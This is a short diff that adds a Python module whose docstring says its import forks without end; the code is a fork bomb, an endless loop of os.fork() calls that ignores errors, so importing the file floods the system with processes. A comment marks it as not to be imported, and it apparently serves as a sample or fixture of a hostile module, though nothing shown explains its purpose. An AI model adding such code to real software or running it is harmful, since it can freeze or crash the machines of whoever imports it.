@@ -1,0 +1,10 @@
+# SPDX-License-Identifier: MIT
+"""Its import forks without end."""
+# import: no
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
